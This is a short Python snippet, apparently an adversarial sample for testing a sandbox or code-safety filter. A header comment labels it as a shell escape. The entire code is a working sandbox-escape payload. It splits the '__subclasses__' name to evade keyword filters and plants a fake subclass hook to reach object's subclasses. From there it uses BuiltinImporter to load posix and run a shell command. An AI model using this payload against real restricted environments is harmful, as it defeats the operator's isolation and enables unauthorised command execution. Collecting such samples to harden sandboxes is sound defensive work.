# HARM: shell via BuiltinImporter | TRICK: types.new_class creates a subclass of Base whose namespace gets a computed-key __subclasses__ returning [object]; walk recurses into it
import types
class Base: pass
N = '__sub' + 'classes__'
types.new_class('A', (Base,), None, lambda ns: ns.update({N: staticmethod(lambda: [object])}))
def walk(cls=Base, depth=0):
    for sub in cls.__subclasses__():
        yield sub
        if depth < 2:
            yield from walk(sub, depth + 1)
for k in walk():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
        break
